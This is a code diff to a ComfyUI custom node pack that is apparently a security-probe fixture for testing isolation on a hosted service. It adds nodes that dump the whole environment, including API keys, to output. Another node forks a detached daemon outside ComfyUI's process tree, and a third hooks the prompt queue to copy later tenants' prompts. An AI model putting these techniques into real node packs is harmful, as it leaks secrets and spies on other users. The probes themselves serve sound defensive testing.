@@ -1,7 +1,12 @@
-"""A leaky custom node pack, for the security probes only: it prints an environment variable, raises
-with it and returns it as a text output — what a careless or hostile pack could do with a secret."""
+"""A leaky custom node pack, for the security probes only: it prints an environment variable (or its
+whole environment: mode "environ"), raises with it and returns it as a text output — what a careless or
+hostile pack could do with a secret.
+RPSecDaemon and RPSecHook do what code a job smuggled into ComfyUI would (a pickle, an eval): leave a
+daemon behind, and hook ComfyUI's prompt queue to read the next tenants' prompts."""
 
+import json
 import os
+import time
 
 
 class RPSecEnvEcho:
@@ -10,7 +15,7 @@ class RPSecEnvEcho:
         return {
             "required": {
                 "name": ("STRING", {"default": "RUNPOD_API_KEY"}),
-                "mode": (["text", "raise"],),
+                "mode": (["text", "raise", "environ"],),
             }
         }
 
@@ -20,6 +25,10 @@ class RPSecEnvEcho:
     CATEGORY = "rp_test"
 
     def run(self, name, mode):
+        if mode == "environ":
+            dump = json.dumps(dict(os.environ), sort_keys=True)
+            print(f"RPSecEnvEcho environ {dump}", flush=True)
+            return {"ui": {"text": [dump]}}
         value = os.environ.get(name, "<unset>")
         print(f"RPSecEnvEcho {name}={value}", flush=True)
         if mode == "raise":
@@ -27,4 +36,68 @@ class RPSecEnvEcho:
         return {"ui": {"text": [f"{name}={value}"]}}
 
 
-NODE_CLASS_MAPPINGS = {"RPSecEnvEcho": RPSecEnvEcho}
+class RPSecDaemon:
+    """setsid + double fork: a process outside ComfyUI's tree (its parent is not ComfyUI); its pid is the
+    first text, ComfyUI's RLIMIT_NPROC the second."""
+
+    @classmethod
+    def INPUT_TYPES(cls):
+        return {"required": {"nonce": ("INT", {"default": 0})}}
+
+    RETURN_TYPES = ()
+    FUNCTION = "run"
+    OUTPUT_NODE = True
+    CATEGORY = "rp_test"
+
+    def run(self, nonce):
+        read, write = os.pipe()
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                os.write(write, str(os.getpid()).encode())
+                os.close(write)
+                time.sleep(600)
+            os._exit(0)
+        os.close(write)
+        pid = os.read(read, 32).decode()
+        os.close(read)
+        os.wait()
+        import resource
+
+        soft, hard = resource.getrlimit(resource.RLIMIT_NPROC)
+        return {"ui": {"text": [pid, f"nproc {soft} {hard}"]}}
+
+
+CAPTURED = []  # what the hook saw: lives as long as ComfyUI's process
+
+
+class RPSecHook:
+    """`hook`: wrap PromptServer's queue so every later prompt is copied here; `dump`: return what was seen."""
+
+    @classmethod
+    def INPUT_TYPES(cls):
+        return {"required": {"op": (["hook", "dump"],), "nonce": ("INT", {"default": 0})}}
+
+    RETURN_TYPES = ()
+    FUNCTION = "run"
+    OUTPUT_NODE = True
+    CATEGORY = "rp_test"
+
+    def run(self, op, nonce):
+        from server import PromptServer
+
+        queue = PromptServer.instance.prompt_queue
+        if op == "hook" and not getattr(queue.put, "rp_hooked", False):
+            original = queue.put
+
+            def put(item):
+                CAPTURED.append(json.dumps(item, default=str))
+                return original(item)
+
+            put.rp_hooked = True
+            queue.put = put
+        hooked = getattr(queue.put, "rp_hooked", False)
+        return {"ui": {"text": [json.dumps({"hooked": hooked, "captured": CAPTURED})]}}
+
+
+NODE_CLASS_MAPPINGS = {"RPSecEnvEcho": RPSecEnvEcho, "RPSecDaemon": RPSecDaemon, "RPSecHook": RPSecHook}
